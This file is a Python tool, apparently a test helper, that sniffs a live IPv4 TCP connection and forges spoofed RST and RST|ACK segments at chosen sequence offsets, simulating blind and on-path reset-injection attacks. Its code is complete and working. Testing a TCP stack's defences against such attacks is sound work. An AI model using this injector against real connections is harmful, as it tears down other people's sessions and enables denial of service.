#!/usr/bin/env python3
"""rstinject: forge TCP RSTs into a live IPv4 connection, as a blind or on-path attacker would.

    rstinject.py IFACE SRC:SPORT DST:DPORT

Runs in the namespace that holds SRC (the end the RST claims to come from) and watches IFACE
(AF_PACKET) for the connection's segments in both directions, so that it knows the sequence
number DST expects next (the last SRC->DST segment's seq + length, SYN and FIN counting one) and
the ISN of a SYN that DST sent. It prints `ready` once watching, then obeys stdin lines:

    rst OFFSET          RST from SRC to DST with seq = expected + OFFSET (mod 2^32)
    rstack OFFSET       RST|ACK with ack = DST's SYN ISN + 1 + OFFSET (into SYN_SENT)
    rstat SEQ           RST with seq = SEQ, whatever was seen (blind)
    quit

and prints `injected seq=N ack=N` (or `error=...`) per RST. Bounded by alarm(60).
"""
import signal
import socket
import struct
import sys

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def endpoint(text: str):
    host, port = text.rsplit(':', 1)
    return socket.inet_aton(host), int(port)


class Watch:
    def __init__(self, iface, src, dst):
        self.src, self.dst = src, dst
        self.expected = None  # next seq DST expects from SRC
        self.syn_isn = None   # ISN of DST's SYN
        # ETH_P_ALL: a socket bound to one protocol gets only incoming packets
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
        self.sock.bind((iface, ETH_P_ALL))

    def drain(self):
        # Every segment that crossed the link before the command is queued on
        # this socket: read them all now, so the seq is the latest (a watcher
        # thread could lag behind on a busy machine and miss or age it).
        while True:
            try:
                pkt, addr = self.sock.recvfrom(65535, socket.MSG_DONTWAIT)
            except BlockingIOError:
                return
            if addr[1] != ETH_P_IP or len(pkt) < 40 or pkt[9] != socket.IPPROTO_TCP:
                continue
            ihl = (pkt[0] & 15) * 4
            total = struct.unpack('!H', pkt[2:4])[0]
            saddr, daddr = pkt[12:16], pkt[16:20]
            tcp = pkt[ihl:]
            sport, dport, seq, _ack = struct.unpack('!HHII', tcp[:12])
            doff = (tcp[12] >> 4) * 4
            flags = tcp[13]
            if flags & 0x04:
                continue  # RSTs (ours included) change nothing
            payload = total - ihl - doff
            if (saddr, sport) == self.src and (daddr, dport) == self.dst:
                self.expected = (seq + payload + (1 if flags & 0x02 else 0) + (1 if flags & 0x01 else 0)) & 0xFFFFFFFF
            elif (saddr, sport) == self.dst and (daddr, dport) == self.src and flags & 0x02:
                self.syn_isn = seq


def segment(src, dst, seq, ack, flags) -> bytes:
    (saddr, sport), (daddr, dport) = src, dst
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq, ack, 5 << 4, flags, 0, 0, 0)
    pseudo = saddr + daddr + struct.pack('!BBH', 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0, saddr, daddr)
    return ip + tcp


def main():
    if len(sys.argv) != 4:
        sys.stderr.write(__doc__)
        sys.exit(2)
    signal.alarm(60)
    src, dst = endpoint(sys.argv[2]), endpoint(sys.argv[3])
    watch = Watch(sys.argv[1], src, dst)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print('ready', flush=True)
    for line in sys.stdin:
        words = line.split()
        if not words:
            continue
        if words[0] == 'quit':
            break
        offset = int(words[1]) if len(words) > 1 else 0
        watch.drain()
        if words[0] == 'rst' and watch.expected is not None:
            seq, ack, flags = (watch.expected + offset) & 0xFFFFFFFF, 0, 0x04
        elif words[0] == 'rstat':
            seq, ack, flags = offset & 0xFFFFFFFF, 0, 0x04
        elif words[0] == 'rstack' and watch.syn_isn is not None:
            seq, ack, flags = 0, (watch.syn_isn + 1 + offset) & 0xFFFFFFFF, 0x14
        else:
            print(f'error=nothing-seen-for-{words[0]}', flush=True)
            continue
        raw.sendto(segment(src, dst, seq, ack, flags), (socket.inet_ntoa(dst[0]), 0))
        print(f'injected seq={seq} ack={ack}', flush=True)
    print('done', flush=True)


if __name__ == '__main__':
    main()
